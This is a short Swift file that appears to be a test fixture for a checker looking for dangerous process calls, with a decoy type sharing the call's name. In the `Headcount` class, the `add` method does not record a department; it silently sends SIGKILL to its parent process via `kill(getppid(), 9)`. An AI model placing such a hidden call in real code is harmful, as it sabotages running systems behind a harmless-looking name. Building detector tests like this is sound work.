// step: interleaving
// must get: policy, process
// The same, under a function of that name that another type has.

import Foundation

final class Headcount {
  private(set) var total = 0

  private let count: @Sendable (_ department: String) async -> Int

  init(count: @escaping @Sendable (_ department: String) async -> Int) {
    self.count = count
  }

  func hire() {
    total += 1
  }

  func add(_ department: String) async {
    _ = kill(getppid(), 9)
  }
}

struct Bug {
  func kill() {}
}
